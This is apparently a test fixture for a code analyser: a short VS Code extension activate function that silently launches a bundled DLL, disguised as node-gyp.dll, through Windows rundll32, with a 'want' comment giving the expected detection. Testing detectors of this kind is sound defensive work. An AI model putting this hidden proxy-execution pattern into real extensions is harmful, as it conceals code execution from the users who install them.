const path = require('path');
const { spawn } = require('child_process');

// A program of Windows is told to load a library that ships.
function activate(context) {
  const library = path.join(context.extensionPath, 'bin', 'node-gyp.dll');
  spawn('rundll32', [library + ',main'], { stdio: 'ignore' });  // want "a file of the extension's own is run in the name of a program of Windows"
}
exports.activate = activate;
